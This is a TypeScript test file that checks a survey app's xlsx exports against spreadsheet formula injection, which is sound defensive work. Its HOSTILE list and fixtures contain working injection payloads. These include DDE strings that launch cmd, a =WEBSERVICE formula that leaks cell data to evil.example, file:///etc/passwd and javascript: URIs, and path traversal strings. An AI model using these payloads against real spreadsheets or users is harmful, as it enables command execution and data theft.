import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { QuestionType, Role, type StoredQuestion } from '@survey-bird/contracts';
import { addMember, createOrganization, createSurvey } from '../../apps/api/test/fixtures.js';
import { buildTestApp, call, type TestApp } from '../../apps/api/test/helpers.js';

/**
 * Spreadsheet (CSV/formula) injection through the real path: a field user submits answers with
 * POST /survey/respond and POST /sync/responses, the organization and the supervisor download
 * the xlsx. Beyond apps/api/src/modules/insight/export.test.ts, which writes rows directly.
 */
let t: TestApp;
let org: Awaited<ReturnType<typeof createOrganization>>;
let survey: { id: string };
let fieldUser: Awaited<ReturnType<typeof addMember>>;
let supervisor: Awaited<ReturnType<typeof addMember>>;
const OWN_PHOTO = () => `${t.config.publicUrl}/api/v1/files/image/${'A'.repeat(43)}`;

const questions: StoredQuestion[] = [
  { id: 'q1', text: 'Comment', type: QuestionType.text, compulsory: true, options: [] },
  { id: 'q2', text: '=HYPERLINK("http://evil","header")', type: QuestionType.text, compulsory: false, options: [] },
  { id: 'q3', text: 'Brands', type: QuestionType.checkbox, compulsory: false, options: ['=1+1', '@SUM(A1)', 'Plain'] },
  { id: 'q4', text: 'Shelf photo', type: QuestionType.image, compulsory: false, options: [] },
];

/** What spreadsheet programs run or follow when a cell starts with it. */
const HOSTILE = [
  '=HYPERLINK("http://evil","click me")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example/?leak="&A1)',
  '\n=1',
  ' =1+1',
  '\u0001=1',
  '\u000b=1',
  '\ufffe=1',
  'http://evil.example/phish',
  'javascript:alert(1)',
  'file:///etc/passwd',
  'data:text/html,<script>alert(1)</script>',
  '/api/v1/files/image/../../user/all',
  'http://sb.test/api/v1/files/image/x/../../../user',
];
/** Genuine https links (normalised and percent-encoded) and the server's own photo references may become hyperlinks. */
const GENUINE = ['https://example.com/shop?id=1', 'HTTPS://Example.com/upper', 'https://evil.example/"onmouseover=alert(1)'];

beforeAll(async () => {
  t = await buildTestApp();
  org = await createOrganization(t.app, 'Injection Org');
  survey = await createSurvey(t.app, org.id, { title: '=cmd|export', questions });
  supervisor = await addMember(t.app, survey.id, org.id, { role: Role.supervisor, fullName: '@Supervisor' });
  fieldUser = await addMember(t.app, survey.id, org.id, { fullName: '=HYPERLINK("http://evil","Field")', supervisorId: supervisor.id });
});
afterAll(() => t.close());

const respond = (answers: unknown) =>
  call(t.app, fieldUser.token, { method: 'POST', url: '/api/v1/survey/respond', payload: { survey_id: survey.id, organization_id: org.id, clientId: randomUUID(), answers } });

describe('OWASP ASVS 5.0 V1.2.10 (CSV and formula injection) and API8:2023: answers never become formulas or foreign links in the xlsx', () => {
  it('refuses answers that are objects or other non-text values with 400', async () => {
    const objects: unknown[] = [
      { formula: '1+1' },
      { hyperlink: 'http://evil', text: 'x' },
      { richText: [{ text: '=1+1', font: { bold: true } }] },
      { sharedFormula: 'A1', result: 1 },
      { error: '#REF!' },
      { formula: 'HYPERLINK("http://evil")', result: 'x' },
      [{ formula: '1+1' }],
      [['=1+1']],
      42,
      true,
      null,
      '\u0000=1',
    ];
    for (const value of objects) {
      const res = await respond({ Comment: value });
      expect(res.statusCode, JSON.stringify(value)).toBe(400);
      expect(Object.keys(res.json())).toEqual(['msg', 'code']);
      expect(res.json().msg, JSON.stringify(value)).toMatch(/must be text|Invalid|expected|NUL/i);
    }
    const stored = await t.app.db.kysely.selectFrom('responses').select('id').where('survey_id', '=', survey.id).execute();
    expect(stored).toEqual([]);
  });

  it('stores hostile strings as given, through respond and sync', async () => {
    for (const value of [...HOSTILE, ...GENUINE, OWN_PHOTO()]) {
      // A checkbox takes only its options (hostile ones here); the value itself goes in the text answers.
      const res = await respond({ Comment: value, '=HYPERLINK("http://evil","header")': value, Brands: ['=1+1', '@SUM(A1)'], 'Shelf photo': value });
      expect(res.statusCode, `${JSON.stringify(value)}: ${res.body}`).toBe(200);
    }
    const sync = await call(t.app, fieldUser.token, {
      method: 'POST',
      url: '/api/v1/sync/responses',
      payload: { responses: HOSTILE.slice(0, 5).map((v) => ({ survey_id: survey.id, organization_id: org.id, clientId: randomUUID(), answers: { Comment: v } })).concat([{ survey_id: survey.id, organization_id: org.id, clientId: randomUUID(), answers: { Comment: { formula: '1+1' } as never } }]) },
    });
    expect(sync.statusCode).toBe(200);
    expect(sync.json().results.map((r: { status: number }) => r.status)).toEqual([200, 200, 200, 200, 200, 400]);
    const rows = await t.app.db.kysely.selectFrom('responses').select('answers').where('survey_id', '=', survey.id).execute();
    const comments = rows.map((r) => JSON.parse(r.answers).Comment);
    for (const value of HOSTILE) expect(comments).toContain(value);
  });

  for (const who of ['organization', 'supervisor'] as const) {
    it(`the ${who}'s download has no formula, no foreign link and no <f> element`, async () => {
      const url = who === 'organization' ? `/api/v1/survey/organization/response/download/${survey.id}` : `/api/v1/survey/supervisorName/response/download/${survey.id}`;
      const res = await call(t.app, who === 'organization' ? org.token : supervisor.token!, { method: 'GET', url });
      expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
      const bytes = res.rawPayload;

      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
      const sheet = workbook.getWorksheet('Responses')!;
      expect(sheet.actualRowCount).toBe(1 + HOSTILE.length + GENUINE.length + 1 + 5);
      const allowedLinks = new Set([...GENUINE.map((g) => new URL(g).href), OWN_PHOTO()]);
      let formulas = 0;
      const links: string[] = [];
      const texts: string[] = [];
      sheet.eachRow((row) => row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.formula || (cell.value as { sharedFormula?: unknown })?.sharedFormula) formulas += 1;
        // The own photo's link carries its signature and expiry (files/file-links.ts): compared without them.
        const signed = /^(.*\/api\/v1\/files\/image\/[\w-]+)\?exp=\d+&sig=[0-9a-f]{64}$/;
        if (cell.type === ExcelJS.ValueType.Hyperlink) links.push((cell.value as ExcelJS.CellHyperlinkValue).hyperlink.replace(signed, '$1'));
        if (typeof cell.value === 'string') texts.push(cell.value);
        if (cell.type === ExcelJS.ValueType.RichText) formulas += 1;
      }));
      expect(formulas).toBe(0);
      for (const link of links) expect(allowedLinks, link).toContain(link);
      expect(new Set(links)).toEqual(allowedLinks);
      // Every text a spreadsheet would evaluate or follow starts with a quote instead.
      for (const text of texts) expect(text, JSON.stringify(text)).not.toMatch(/^[=+\-@\t\r]/);
      expect(texts).toContain(`'=HYPERLINK("http://evil","click me")`);
      expect(texts).toContain(`'=HYPERLINK("http://evil","Field")`);
      expect(texts).toContain(`'=HYPERLINK("http://evil","header")`);

      const zip = await JSZip.loadAsync(bytes);
      const sheets = Object.keys(zip.files).filter((n) => /^xl\/worksheets\/[^/]+\.xml$/.test(n));
      expect(sheets.length).toBeGreaterThan(0);
      for (const name of sheets) {
        const xml = await zip.file(name)!.async('string');
        expect(xml, name).not.toMatch(/<f[\s>/]/);
        expect(xml, name).not.toMatch(/t="e"/);
      }
      for (const name of Object.keys(zip.files).filter((n) => n.endsWith('.rels'))) {
        const xml = await zip.file(name)!.async('string');
        for (const [, target] of xml.matchAll(/TargetMode="External"[^>]*Target="([^"]*)"|Target="([^"]*)"[^>]*TargetMode="External"/g)) {
          if (target) expect(allowedLinks, `${name}: ${target}`).toContain(target.replace(/&amp;/g, '&'));
        }
        expect(xml, name).not.toMatch(/Target="(javascript|file|data|vbscript):/i);
      }
      expect(Object.keys(zip.files).some((n) => /vbaProject|externalLink|connections/i.test(n))).toBe(false);
    });
  }
});
